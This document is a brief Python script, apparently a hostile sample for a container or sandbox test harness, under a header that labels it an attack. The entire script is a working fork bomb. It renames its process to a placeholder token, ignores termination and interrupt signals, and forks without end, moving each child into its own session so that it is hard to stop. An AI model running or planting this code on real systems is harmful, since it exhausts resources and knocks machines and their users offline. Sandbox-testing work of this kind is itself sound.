# /// attack
# tries = "forks without end, each child in a session of its own that ignores every signal"
# docker = true
# ///
import ctypes
import os
import signal

ctypes.CDLL(None).prctl(15, b"@token@"[:15], 0, 0, 0)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
